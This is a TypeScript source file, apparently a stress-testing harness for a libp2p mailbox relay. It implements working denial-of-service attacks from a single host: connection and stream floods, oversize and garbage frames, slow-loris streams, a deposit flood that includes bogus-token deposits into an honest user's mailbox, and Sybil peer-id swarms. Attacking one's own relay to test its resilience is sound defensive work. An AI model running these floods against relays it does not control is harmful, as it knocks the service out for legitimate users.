// SPDX-License-Identifier: AGPL-3.0-only
/**
 * Attacks on a relay, each run for a while from one host, each answering with what it managed.
 * They are what a single abusive machine can do cheaply: floods of connections and streams,
 * oversize frames, garbage after a valid handshake, slow-loris streams, a deposit flood from
 * one token, and a crowd of Sybil peer ids.
 */

import { randomBytes } from 'node:crypto'
import { createConnection } from 'node:net'
import {
  MAILBOX_PROTOCOL, MAX_REQUEST_FRAME_BYTES, RELAY_INFO_PROTOCOL, createMailboxClient, generateDepositToken,
  generateMailboxKey
} from '@sotto/core/mailbox'
import { RawStream, clientNode, openStream } from './node.js'
import { decode, encode, lengthPrefixed, varint } from './pb.js'
import type { Libp2p } from '@libp2p/interface'
import type { Socket } from 'node:net'

/** The circuit relay v2 hop protocol. */
const HOP_PROTOCOL = '/libp2p/circuit/relay/0.2.0/hop'

/** Where to attack. */
export interface Target {
  /** The relay's multiaddr, `/ip4/…/tcp/…/p2p/…`. */
  relay: string
  /** Its IP and TCP port, for raw sockets. */
  ip: string
  port: number
}

/** What an attack counted. */
export type Counters = Record<string, number>

function bump (c: Counters, key: string, by = 1): void {
  c[key] = (c[key] ?? 0) + by
}

function errorName (err: unknown): string {
  return (err as NodeJS.ErrnoException)?.code ?? (err as Error)?.name ?? 'Error'
}

/** Runs `worker` in `parallel` loops until `durationMs` has passed. */
async function during (durationMs: number, parallel: number, worker: (deadline: number) => Promise<void>): Promise<void> {
  const deadline = Date.now() + durationMs
  await Promise.all(Array.from({ length: parallel }, async () => {
    while (Date.now() < deadline) await worker(deadline)
  }))
}

/**
 * Connection flood: silent TCP connections held open (up to `hold`), connect-and-drop churn, and
 * full handshakes from fresh peer ids.
 */
export async function connectionFlood (t: Target, durationMs: number, hold = 1000): Promise<Counters> {
  const c: Counters = {}
  const held = new Set<Socket>()
  const silent = during(durationMs, 4, async (deadline) => {
    if (held.size >= hold) {
      await new Promise(resolve => setTimeout(resolve, Math.min(200, Math.max(0, deadline - Date.now()))))
      return
    }
    await new Promise<void>(resolve => {
      const s = createConnection({ host: t.ip, port: t.port })
      const timer = setTimeout(() => { s.destroy(); bump(c, 'silentConnectTimeout'); resolve() }, 5000)
      s.once('connect', () => {
        clearTimeout(timer)
        bump(c, 'silentOpened')
        held.add(s)
        s.on('close', () => { held.delete(s); bump(c, 'silentClosedByRelay') })
        resolve()
      })
      s.on('error', () => { clearTimeout(timer); bump(c, 'silentRefused'); resolve() })
    })
  })
  const churn = during(durationMs, 4, async () => {
    await new Promise<void>(resolve => {
      const s = createConnection({ host: t.ip, port: t.port })
      s.once('connect', () => {
        s.write('\x13/multistream/1.0.0\n')
        s.destroy()
        bump(c, 'churned')
        resolve()
      })
      s.on('error', () => { bump(c, 'churnRefused'); resolve() })
    })
  })
  const handshakes = during(durationMs, 2, async () => {
    const node = await clientNode()
    try {
      await openStream(node, t.relay, RELAY_INFO_PROTOCOL, 5000).then(s => s.abort(new Error('flood')))
      bump(c, 'handshakes')
    } catch (err) {
      bump(c, `handshakeFailed:${errorName(err)}`)
    } finally {
      await node.stop()
    }
  })
  await Promise.all([silent, churn, handshakes])
  c.silentStillOpen = held.size
  for (const s of held) s.destroy()
  return c
}

/** Stream flood: one connection, as many mailbox streams as it will take, held, then churned. */
export async function streamFlood (t: Target, durationMs: number): Promise<Counters> {
  const c: Counters = {}
  const node = await clientNode()
  const held: RawStream[] = []
  try {
    await during(durationMs, 16, async () => {
      try {
        const s = new RawStream(await openStream(node, t.relay, MAILBOX_PROTOCOL, 5000))
        bump(c, 'opened')
        if (held.length < 256) held.push(s)
        else s.abort()
      } catch (err) {
        bump(c, `refused:${errorName(err)}`)
        await new Promise(resolve => setTimeout(resolve, 10))
      }
    })
    c.heldOpenAtEnd = held.filter(s => !s.ended).length
  } finally {
    for (const s of held) s.abort()
    await node.stop()
  }
  return c
}

/**
 * Oversize frames: a huge declared length followed by data as fast as the relay takes it, and
 * frames just over the cap. When the relay closes the connection, a fresh peer id reconnects.
 */
export async function oversizeFrames (t: Target, durationMs: number): Promise<Counters> {
  const c: Counters = {}
  let node = await clientNode()
  let replacing: Promise<Libp2p> | undefined
  const nodes = [node]
  const junk = new Uint8Array(randomBytes(64 * 1024))
  try {
    await during(durationMs, 4, async (deadline) => {
      let s: RawStream
      const using = node
      try {
        s = new RawStream(await openStream(using, t.relay, MAILBOX_PROTOCOL, 5000))
      } catch (err) {
        bump(c, `refused:${errorName(err)}`)
        // Cut off: come back as someone else (one replacement at a time).
        if (using === node) {
          replacing ??= clientNode().then(n => {
            nodes.push(n)
            node = n
            bump(c, 'reconnects')
            return n
          }).finally(() => { replacing = undefined })
        }
        await replacing
        await Promise.resolve(using.stop()).catch(() => {})
        return
      }
      bump(c, 'streams')
      const justOver = Math.random() < 0.5
      await s.send(varint(justOver ? MAX_REQUEST_FRAME_BYTES + 1 : 100 * 1024 * 1024))
      let sent = 0
      // Then junk, as fast as the relay takes it, until it ends the stream (at most 16 MiB).
      while (!s.ended && Date.now() < deadline && sent < 16 * 1024 * 1024) {
        if (!await s.send(junk)) break
        sent += junk.byteLength
      }
      bump(c, 'bytesSent', sent)
      await s.waitFrames(1, 2000)
      if (s.frames.length > 0) bump(c, 'answered')
      if (s.ended) bump(c, 'closedByRelay')
      s.abort()
    })
  } finally {
    await Promise.all(nodes.map(async n => { await Promise.resolve(n.stop()).catch(() => {}) }))
  }
  return c
}

/** Garbage after a valid handshake: random bytes on mailbox, relay-info and hop streams. */
export async function garbage (t: Target, durationMs: number, protocols = [MAILBOX_PROTOCOL, RELAY_INFO_PROTOCOL, HOP_PROTOCOL]): Promise<Counters> {
  const c: Counters = {}
  const node = await clientNode()
  try {
    await during(durationMs, 8, async () => {
      const protocol = protocols[Math.floor(Math.random() * protocols.length)] as string
      let s: RawStream
      try {
        s = new RawStream(await openStream(node, t.relay, protocol, 5000))
      } catch (err) {
        bump(c, `refused:${errorName(err)}`)
        return
      }
      bump(c, 'streams')
      const bytes = new Uint8Array(randomBytes(1 + Math.floor(Math.random() * 4096)))
      await s.send(bytes)
      bump(c, 'bytesSent', bytes.byteLength)
      await s.finish(1000)
      await Promise.race([s.closed, new Promise(resolve => setTimeout(resolve, 1000))])
      if (s.frames.length > 0) bump(c, 'answered')
      s.abort()
    })
  } finally {
    await node.stop()
  }
  return c
}

/**
 * Slow-loris: many connections (fresh peer ids), each with as many mailbox streams as the relay
 * allows, each dribbling a frame one byte at a time, every few seconds.
 */
export async function slowLoris (t: Target, durationMs: number, connections = 32, streamsPerConnection = 40): Promise<Counters> {
  const c: Counters = {}
  const nodes: Libp2p[] = []
  const streams: RawStream[] = []
  const deadline = Date.now() + durationMs
  try {
    for (let i = 0; i < connections && Date.now() < deadline; i++) {
      const node = await clientNode()
      nodes.push(node)
      const opened = await Promise.allSettled(Array.from({ length: streamsPerConnection }, async () => openStream(node, t.relay, MAILBOX_PROTOCOL, 5000)))
      for (const o of opened) {
        if (o.status === 'fulfilled') {
          streams.push(new RawStream(o.value))
          bump(c, 'opened')
        } else {
          bump(c, `refused:${errorName(o.reason)}`)
        }
      }
    }
    // A deposit frame's length prefix, then its body, one byte at a time.
    const frame = lengthPrefixed(encode([{ field: 1, varint: 1 }, { field: 5, varint: 1 }]))
    let at = 0
    while (Date.now() < deadline) {
      await Promise.all(streams.filter(s => !s.ended).map(async s => s.send(frame.subarray(at % frame.byteLength, at % frame.byteLength + 1))))
      at++
      await new Promise(resolve => setTimeout(resolve, Math.min(3000, Math.max(0, deadline - Date.now()))))
    }
    c.heldOpenAtEnd = streams.filter(s => !s.ended).length
  } finally {
    for (const s of streams) s.abort()
    await Promise.all(nodes.map(async n => n.stop()))
  }
  return c
}

let floodMailbox: Promise<{ mailboxId: Uint8Array, token: Uint8Array }> | undefined

/**
 * Deposit flood from one token (into a mailbox the attacker made), pipelined, plus deposits with
 * made-up tokens into the honest user's mailbox.
 */
export async function depositFlood (t: Target, durationMs: number, honestMailboxId: string): Promise<Counters> {
  const c: Counters = {}
  const node = await clientNode()
  const client = createMailboxClient(node, t.relay, { timeout: 30_000 })
  try {
    // One mailbox per agent and relay, made once: the relay limits how many one host creates.
    floodMailbox ??= (async () => {
      const key = await generateMailboxKey()
      const mailboxId = await client.create(key)
      const token = generateDepositToken()
      await client.registerToken(key, token, 'contact')
      return { mailboxId, token }
    })()
    const { mailboxId, token } = await floodMailbox
    const honest = Uint8Array.from(Buffer.from(honestMailboxId, 'hex'))
    const envelope = new Uint8Array(randomBytes(1024))
    await during(durationMs, 64, async () => {
      const bogus = Math.random() < 0.2
      try {
        await client.deposit(bogus ? honest : mailboxId, bogus ? generateDepositToken() : token, envelope)
        bump(c, bogus ? 'bogusOk' : 'ok')
      } catch (err) {
        bump(c, `${bogus ? 'bogus' : 'own'}:${errorName(err)}`)
      }
    })
  } finally {
    await client.close().catch(() => {})
    await node.stop()
  }
  return c
}

/**
 * Sybils: `count` fresh peer ids from this one host. Each connects, asks for a circuit relay
 * reservation, creates a mailbox and deposits into it; all stay connected until the end.
 */
export async function sybils (t: Target, durationMs: number, count = 100): Promise<Counters> {
  const c: Counters = {}
  const nodes: Libp2p[] = []
  const deadline = Date.now() + durationMs
  try {
    await Promise.all(Array.from({ length: count }, async (_, i) => {
      await new Promise(resolve => setTimeout(resolve, i * Math.min(50, durationMs / count / 2)))
      const node = await clientNode()
      nodes.push(node)
      try {
        const hop = new RawStream(await openStream(node, t.relay, HOP_PROTOCOL, 10_000))
        bump(c, 'connected')
        await hop.send(lengthPrefixed(encode([{ field: 1, varint: 0 }])))
        await hop.waitFrames(1, 10_000)
        const answer = hop.frames[0]
        const status = answer != null ? decode(answer).get(5)?.[0] : undefined
        bump(c, status === 100 ? 'reservationOk' : `reservation:${String(status ?? 'none')}`)
      } catch (err) {
        bump(c, `connectFailed:${errorName(err)}`)
        return
      }
      const client = createMailboxClient(node, t.relay, { timeout: 30_000 })
      try {
        const key = await generateMailboxKey()
        const mailboxId = await client.create(key)
        bump(c, 'mailboxCreated')
        const token = generateDepositToken()
        await client.registerToken(key, token, 'contact')
        for (let d = 0; d < 10 && Date.now() < deadline; d++) {
          await client.deposit(mailboxId, token, new Uint8Array(randomBytes(1024)))
          bump(c, 'deposits')
        }
      } catch (err) {
        bump(c, `mailbox:${errorName(err)}`)
      }
    }))
    while (Date.now() < deadline) await new Promise(resolve => setTimeout(resolve, Math.min(500, Math.max(0, deadline - Date.now()))))
    c.connectedAtEnd = nodes.filter(n => n.getConnections().length > 0).length
  } finally {
    await Promise.all(nodes.map(async n => n.stop()))
  }
  return c
}
